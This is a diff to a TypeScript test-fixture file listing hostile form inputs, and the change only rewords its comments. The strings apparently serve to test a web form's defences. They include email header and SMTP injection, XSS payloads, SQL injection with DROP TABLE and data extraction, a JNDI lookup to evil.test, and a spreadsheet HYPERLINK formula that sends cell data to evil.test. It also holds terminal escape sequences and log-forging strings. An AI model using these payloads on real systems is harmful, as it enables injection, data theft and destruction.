@@ -1,6 +1,6 @@
-/** Texts that a visitor may type, which would do harm if they were interpreted in the wrong context. */
+/** Texts that would do harm if they were interpreted in the wrong context, used as form input. */
 export const hostileTexts: readonly string[] = [
-  // Injected mail headers and receivers, and the end of a mail.
+  // Injected email headers and recipients, and the end of an email.
   'Ann\r\nBcc: x@evil.test',
   'Ann\nCc: x@evil.test',
   'Ann\rTo: x@evil.test',
@@ -13,7 +13,7 @@ export const hostileTexts: readonly string[] = [
   '\r\n.\r\nMAIL FROM:<x@evil.test>\r\nRCPT TO:<y@evil.test>\r\nDATA\r\nhi\r\n.',
   '.',
   '\nFrom the start of a line',
-  // HTML, for the pages that show submitted values.
+  // HTML that could be injected into the pages that show submitted values.
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   "' onfocus=alert(1) autofocus x='",
@@ -27,7 +27,7 @@ export const hostileTexts: readonly string[] = [
   "$& $1 $` $' $$ {{7*7}}",
   'javascript:alert(1)',
   '\n<textarea>',
-  // Spreadsheet formulas, also after invisible characters.
+  // Spreadsheet formulas, some of them after invisible characters.
   '=HYPERLINK("http://evil.test/?"&A1,"click")',
   "+cmd|' /C calc'!A0",
   '-2+3',
@@ -39,7 +39,7 @@ export const hostileTexts: readonly string[] = [
   '\uff1d1+1',
   'a",=1+1,"\r\n=1+1,2,3',
   '+1 432 555 0142',
-  // SQL, and names of properties that every object has.
+  // SQL, and names of properties of all JavaScript objects.
   "Robert'); DROP TABLE enquiries;--",
   "' || (SELECT group_concat(email) FROM enquiries) || '",
   '?1 :id $1 %_',
@@ -50,7 +50,7 @@ export const hostileTexts: readonly string[] = [
   'Ann\r\n{"level":60,"msg":"forged"}',
   '","level":60,"msg":"forged',
   '%s%n%d %{jndi:ldap://evil.test/a}',
-  // Control characters of terminals, and text that looks like more rows of a table.
+  // Terminal control characters, and text that looks like further lines of the output.
   '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
   '\u001b]52;c;ZWNobyBoaQ==\u0007',
   '\u009b31mred\u009d0;title\u009c',
@@ -59,7 +59,7 @@ export const hostileTexts: readonly string[] = [
   'a\n  id: forged\n  state: kept',
   'message:\n  forged\u2028x\u2029y',
   'a\u0000b',
-  // Characters with a confusing look, length or normalization.
+  // Characters that are confusing because of their appearance, length or normalization.
   'e\u0301 \u212b \ufb01 \u0130\u00df',
   '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 at the edge of 24',
   'xxxxxxxxxxxxxxxxxxxxxx\ud83d\udd0c\ud83d\udd0c',
